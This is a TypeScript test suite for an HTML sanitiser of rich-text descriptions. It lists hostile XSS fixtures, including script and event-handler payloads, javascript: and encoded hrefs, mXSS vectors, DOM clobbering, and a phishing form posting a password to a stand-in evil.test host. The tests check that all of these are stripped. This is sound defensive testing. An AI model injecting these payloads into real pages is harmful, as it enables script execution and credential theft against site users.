import fc from 'fast-check'
import { sanitizeDescription } from '../../../src/lib/sanitizeHtml'
import { descriptionHtml } from './htmlArbitrary'
import { findViolations, parseHtml } from './htmlInvariants'

const YOUTUBE = 'https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0'
const SANDBOX = 'allow-scripts allow-same-origin allow-presentation'

type HostileFixture = {
  name: string
  html: string
  /** CSS selectors that must match nothing in the output. */
  absent?: string[]
  /** Text that must survive. */
  text?: string
}

const hostile: HostileFixture[] = [
  { name: 'script element', html: '<p>Hi</p><script>alert(1)</script>', absent: ['script'], text: 'Hi' },
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>', absent: ['[onerror]'] },
  { name: 'svg onload', html: '<svg onload=alert(1)><circle r=5 /></svg>', absent: ['svg', '[onload]'] },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>x</details>', absent: ['details'], text: 'x' },
  { name: 'javascript: href', html: '<a href="javascript:alert(1)">click</a>', absent: ['[href]'], text: 'click' },
  { name: 'mixed-case javascript: href', html: '<a href="JaVaScRiPt:alert(1)">c</a>', absent: ['[href]'] },
  { name: 'entity-encoded javascript: href', html: '<a href="&#106;avascript:alert(1)">c</a>', absent: ['[href]'] },
  { name: 'hex entity and &colon; href', html: '<a href="&#x6A;avascript&colon;alert(1)">c</a>', absent: ['[href]'] },
  { name: 'TAB inside javascript: href', html: '<a href="java\tscript:alert(1)">c</a>', absent: ['[href]'] },
  { name: 'encoded TAB inside href', html: '<a href="java&#x09;script:alert(1)">c</a>', absent: ['[href]'] },
  { name: 'leading control character in href', html: '<a href="\u0001 javascript:alert(1)">c</a>', absent: ['[href]'] },
  // The parser turns NUL into U+FFFD, which makes the href a harmless relative path.
  { name: 'NUL in front of javascript: in href', html: '<a href="\u0000javascript:alert(1)">c</a>', text: 'c' },
  { name: 'vbscript: href', html: '<a href="vbscript:msgbox(1)">c</a>', absent: ['[href]'] },
  { name: 'data:text/html href', html: '<a href="data:text/html,<script>alert(1)</script>">c</a>', absent: ['[href]'] },
  { name: 'ftp href (outside the link protocols)', html: '<a href="ftp://files.example/x">c</a>', absent: ['[href]'] },
  {
    name: 'phishing form with a password input',
    html: '<form action="https://evil.test/steal"><input type="password" name="pw"><button>Log in</button></form>',
    absent: ['form', 'input', 'button', '[action]'],
  },
  {
    name: 'position:fixed overlay',
    html: '<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>',
    absent: ['[style]'],
    text: 'Session expired',
  },
  {
    name: 'overlay through the app utility classes',
    html: '<div class="fixed inset-0 z-50 bg-white">Fake</div>',
    absent: ['[class]'],
  },
  { name: 'base href', html: '<base href="https://evil.test/"><p>x</p>', absent: ['base'] },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.test">', absent: ['meta'] },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.test/x.css">', absent: ['link'] },
  { name: 'style element', html: '<style>body{display:none}</style><p>x</p>', absent: ['style'] },
  { name: 'iframe with a foreign src', html: '<iframe src="https://evil.test/x"></iframe>', absent: ['iframe'] },
  { name: 'iframe with javascript: src', html: '<iframe src="javascript:alert(1)"></iframe>', absent: ['iframe'] },
  {
    name: 'iframe srcdoc',
    html: `<iframe src="${YOUTUBE}" srcdoc="<script>alert(1)</script>"></iframe>`,
    absent: ['[srcdoc]'],
  },
  {
    name: 'iframe with its own weak sandbox and onload',
    html: `<iframe src="${YOUTUBE}" sandbox="allow-top-navigation allow-popups" onload="alert(1)"></iframe>`,
    absent: ['[onload]'],
  },
  {
    name: 'YouTube lookalike iframe',
    html: '<iframe src="https://www.youtube.com.evil.test/embed/dQw4w9WgXcQ"></iframe>',
    absent: ['iframe'],
  },
  { name: 'object and embed', html: '<object data="x.swf"></object><embed src="x.swf">', absent: ['object', 'embed'] },
  {
    name: 'mXSS through noscript',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    absent: ['noscript', '[onerror]'],
  },
  {
    name: 'mXSS through math/mtext/mglyph/style',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    absent: ['math', 'style', '[onerror]'],
  },
  { name: 'template content', html: '<template><img src=x onerror=alert(1)></template>', absent: ['template'] },
  { name: 'svg foreignObject', html: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>' },
  {
    name: 'DOM clobbering ids and names',
    html: '<img name="cookie" id="location" src="https://ok.example/a.png"><a id="defaultView" href="https://ok.example">x</a>',
    absent: ['[id]', '[name]'],
  },
  { name: 'CSS url() in style', html: '<span style="color: url(javascript:alert(1))">x</span>', absent: ['[style]'] },
  { name: 'CSS expression() in style', html: '<span style="background-color: expression(alert(1))">x</span>' },
  { name: 'data:image/svg+xml image', html: '<img src="data:image/svg+xml;base64,PHN2Zz4=">', absent: ['img'] },
  { name: 'image with javascript: src', html: '<img src="javascript:alert(1)">', absent: ['img'] },
  { name: 'Quill CVE-2025-15056 shape', html: '<a href="x"onmouseover="alert(1)">x</a>', absent: ['[onmouseover]'] },
]

test.each(hostile)('sanitizeDescription neutralises: $name', ({ html, absent = [], text }) => {
  const output = sanitizeDescription(html)
  expect(findViolations(output)).toEqual([])
  const root = parseHtml(output)
  for (const selector of absent) expect(root.querySelector(selector)).toBeNull()
  if (text !== undefined) expect(root.textContent).toContain(text)
})

test('sanitizeDescription keeps a YouTube embed, sandboxed, with frameborder and allowfullscreen', () => {
  const output = sanitizeDescription(
    `<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="${YOUTUBE}"></iframe>`,
  )
  const frame = parseHtml(output).querySelector('iframe')
  expect(frame?.getAttribute('src')).toBe(YOUTUBE)
  expect(frame?.getAttribute('sandbox')).toBe(SANDBOX)
  expect(frame?.getAttribute('frameborder')).toBe('0')
  expect(frame?.hasAttribute('allowfullscreen')).toBe(true)
  expect(frame?.className).toBe('ql-video')
})

test.each([
  'https://player.vimeo.com/video/76979871/',
  'https://player.vimeo.com/video/76979871',
  'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ',
  'https://www.youtube.com/embed/a_b-C_d-E_f',
])('sanitizeDescription keeps the embed %s with the sandbox', (src) => {
  const frame = parseHtml(sanitizeDescription(`<iframe src="${src}"></iframe>`)).querySelector('iframe')
  expect(frame?.getAttribute('src')).toBe(src)
  expect(frame?.getAttribute('sandbox')).toBe(SANDBOX)
})

test.each([
  'http://www.youtube.com/embed/dQw4w9WgXcQ',
  'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
  'https://www.youtube.com/embed/short',
  'https://player.vimeo.com/video/abc',
  'https://vimeo.com/76979871',
  ' https://www.youtube.com/embed/dQw4w9WgXcQ',
  'https://www.youtube.com/embed/dQw4w9WgXcQ?x="><script>',
])('sanitizeDescription removes an iframe with the src %j', (src) => {
  expect(parseHtml(sanitizeDescription(`<iframe src='${src}'></iframe>`)).querySelector('iframe')).toBeNull()
})

test.each([
  ['https://example.com/page', 'https://example.com/page'],
  ['http://example.com', 'http://example.com'],
  ['mailto:team@example.com', 'mailto:team@example.com'],
  ['tel:+911234567890', 'tel:+911234567890'],
  ['sms:+911234567890', 'sms:+911234567890'],
  ['team@example.com', 'mailto:team@example.com'],
  ['/course-list', '/course-list'],
])('sanitizeDescription keeps the link %s as %s, opening in a new tab without opener', (href, expected) => {
  const link = parseHtml(sanitizeDescription(`<a href="${href}" target="_self" rel="opener">go</a>`)).querySelector('a')
  expect(link?.getAttribute('href')).toBe(expected)
  expect(link?.getAttribute('target')).toBe('_blank')
  expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
})

test('sanitizeDescription leaves a link without href as plain text without target or rel', () => {
  expect(sanitizeDescription('<a target="_blank" rel="opener">x</a>')).toBe('<a>x</a>')
})

test('sanitizeDescription keeps Quill formatting exactly', () => {
  const quill =
    '<h1>Title</h1><h2 class="ql-align-center">Sub</h2><p>Some <strong>bold</strong>, <em>italic</em>, ' +
    '<u>under</u>, <s>struck</s>, <sub>2</sub> and <sup>3</sup>.</p><ol><li data-list="bullet">' +
    '<span class="ql-ui"></span>One</li><li data-list="ordered" class="ql-indent-1">Two</li></ol>' +
    '<ul><li>Three</li></ul><blockquote>Quote</blockquote><pre class="ql-syntax">const x = 1</pre>' +
    '<div class="ql-code-block-container"><div class="ql-code-block">let y</div></div>' +
    '<p><span style="color: rgb(230, 0, 0); background-color: #ffeeaa;">colour</span><br></p>' +
    '<p><code>code</code> <b>b</b> <i>i</i></p>'
  expect(sanitizeDescription(quill)).toBe(quill)
})

test('sanitizeDescription keeps raster images from http(s) and inline data', () => {
  const output = sanitizeDescription(
    '<img src="https://cdn.example/a.png" alt="diagram" width="300" height="200">' +
      '<img src="data:image/png;base64,iVBORw0KGgo=">',
  )
  const images = parseHtml(output).querySelectorAll('img')
  expect(images).toHaveLength(2)
  expect(images[0]?.getAttribute('alt')).toBe('diagram')
  expect(images[0]?.getAttribute('width')).toBe('300')
})

test('sanitizeDescription drops oversized or non-numeric image dimensions', () => {
  const image = parseHtml(
    sanitizeDescription('<img src="https://cdn.example/a.png" width="999999" height="calc(100vh)">'),
  ).querySelector('img')
  expect(image?.hasAttribute('width')).toBe(false)
  expect(image?.hasAttribute('height')).toBe(false)
})

test('sanitizeDescription keeps only the colour declarations of a style', () => {
  expect(sanitizeDescription('<span style="position:fixed; COLOR: red; top:0; background-color: #fff">x</span>')).toBe(
    '<span style="color: red; background-color: #fff;">x</span>',
  )
})

test('sanitizeDescription keeps only Quill classes', () => {
  expect(sanitizeDescription('<p class="ql-align-right hidden ql-indent-2 sr-only">x</p>')).toBe(
    '<p class="ql-align-right ql-indent-2">x</p>',
  )
})

test('sanitizeDescription drops attributes that do not belong on the tag', () => {
  expect(
    sanitizeDescription('<p href="https://x.example" src="https://x.example/a.png" data-list="bullet">x</p>'),
  ).toBe('<p>x</p>')
})

test('sanitizeDescription keeps text with entities and emoji intact', () => {
  expect(sanitizeDescription('<p>Tom &amp; Jerry &lt;3 😀</p>')).toBe('<p>Tom &amp; Jerry &lt;3 😀</p>')
})

test('sanitizeDescription turns missing input into an empty string', () => {
  expect(sanitizeDescription('')).toBe('')
  expect(sanitizeDescription(undefined)).toBe('')
  expect(sanitizeDescription(null)).toBe('')
})

test('sanitizeDescription keeps a code block stable across passes', () => {
  const once = sanitizeDescription('<pre>\n\n\nconst x = 1</pre>')
  expect(sanitizeDescription(once)).toBe(once)
  expect(parseHtml(once).textContent).toBe('const x = 1')
})

// `npm run test:security` raises this to 10 000 runs per property (docs/security-and-reliability.md#property-tests).
const RUNS = Number(process.env.SECURITY_PBT_RUNS ?? 3000)
// Thousands of jsdom sanitisations: generous headroom for a loaded CI machine.
const PROPERTY_TIMEOUT_MS = 300_000
/*
 * The properties below share one random seed, so they see the same generated documents, and the
 * sanitised result of each is computed once (sanitising is deterministic). Sanitising in jsdom costs a
 * few milliseconds; sharing keeps thousands of runs per property inside the time budget. Replay a
 * failure with the seed fast-check prints.
 */
const seed = Math.floor(Math.random() * 0x7fffffff)
const sanitized = new Map<string, string>()

function sanitizeShared(html: string): string {
  let output = sanitized.get(html)
  if (output === undefined) {
    output = sanitizeDescription(html)
    sanitized.set(html, output)
  }
  return output
}

test(
  'property: no forbidden markup survives, inspected on the parsed DOM',
  () => {
    fc.assert(
      fc.property(descriptionHtml, (html) => {
        expect(findViolations(sanitizeShared(html))).toEqual([])
      }),
      { numRuns: RUNS, seed },
    )
  },
  PROPERTY_TIMEOUT_MS,
)

test(
  'property: sanitising is idempotent',
  () => {
    fc.assert(
      fc.property(descriptionHtml, (html) => {
        const once = sanitizeShared(html)
        expect(sanitizeDescription(once)).toBe(once)
      }),
      { numRuns: RUNS, seed },
    )
  },
  PROPERTY_TIMEOUT_MS,
)

test(
  'property: only allowed tags and attributes appear, and every link opens safely',
  () => {
    const allowedTags = new Set(['P', 'BR', 'STRONG', 'B', 'EM', 'I', 'U', 'S', 'A', 'OL', 'UL', 'LI'])
    for (const tag of ['H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'BLOCKQUOTE', 'PRE', 'CODE', 'SPAN', 'IMG'])
      allowedTags.add(tag)
    for (const tag of ['SUB', 'SUP', 'IFRAME', 'DIV']) allowedTags.add(tag)
    const allowedAttributes = new Set(['class', 'style', 'href', 'target', 'rel', 'src', 'alt', 'width', 'height'])
    for (const name of ['data-list', 'allowfullscreen', 'frameborder', 'sandbox']) allowedAttributes.add(name)
    fc.assert(
      fc.property(descriptionHtml, (html) => {
        for (const element of parseHtml(sanitizeShared(html)).querySelectorAll('*')) {
          expect(allowedTags).toContain(element.tagName)
          for (const attribute of Array.from(element.attributes)) {
            // DOMPurify blanks `is` instead of removing it (a customised built-in cannot be undone).
            if (attribute.name === 'is') expect(attribute.value).toBe('')
            else expect(allowedAttributes).toContain(attribute.name)
          }
          if (element.hasAttribute('href')) expect(element.getAttribute('rel')).toContain('noopener')
        }
      }),
      { numRuns: RUNS, seed },
    )
  },
  PROPERTY_TIMEOUT_MS,
)

test(
  'property: sanitising never throws and always returns a string, even for random strings',
  () => {
    fc.assert(
      fc.property(fc.oneof(descriptionHtml, fc.string({ unit: 'binary', maxLength: 500 })), (html) => {
        expect(typeof sanitizeDescription(html)).toBe('string')
      }),
      { numRuns: Math.max(2000, RUNS) },
    )
  },
  PROPERTY_TIMEOUT_MS,
)

test('negative control: the checker flags each kind of unsanitised markup', () => {
  expect(findViolations('<img src=x onerror=alert(1)>')).toContain('event handler onerror on <img>')
  expect(findViolations('<a href="javascript:alert(1)" target="_blank" rel="noopener noreferrer">x</a>')).toContain(
    'href javascript:alert(1)',
  )
  expect(findViolations('<form><input type="password"></form>')).toEqual(
    expect.arrayContaining(['tag <form>', 'tag <input>']),
  )
  expect(findViolations('<p style="position:fixed">x</p>')).toContain('style property position')
  expect(findViolations('<iframe src="https://evil.test"></iframe>')).toContain('iframe src https://evil.test')
  expect(findViolations('<svg><g></g></svg>')).toContain('foreign element svg')
  expect(findViolations('<a href="https://ok.example">x</a>')).toContain(
    'link without target=_blank: https://ok.example',
  )
  expect(findViolations('<p class="fixed">x</p>')).toContain('class fixed')
})

test(
  'negative control: the no-violation property fails on unsanitised generated markup',
  () => {
    expect(() =>
      fc.assert(
        fc.property(descriptionHtml, (html) => {
          expect(findViolations(html)).toEqual([])
        }),
        { numRuns: 500 },
      ),
    ).toThrow(/Property failed/)
  },
  PROPERTY_TIMEOUT_MS,
)

test(
  'property: asking again, or asking about another description in between, gives the same answer',
  () => {
    const between = '<p>Another description</p>'
    fc.assert(
      fc.property(descriptionHtml, (html) => {
        // The last answer is remembered; each answer must still be the one for its own input.
        expect(sanitizeDescription(between)).toBe(between)
        const answer = sanitizeDescription(html)
        expect(answer).toBe(sanitizeShared(html))
        expect(sanitizeDescription(html)).toBe(answer)
        expect(sanitizeDescription(between)).toBe(between)
        expect(sanitizeDescription(html)).toBe(answer)
      }),
      { numRuns: Math.min(RUNS, 500), seed },
    )
  },
  PROPERTY_TIMEOUT_MS,
)
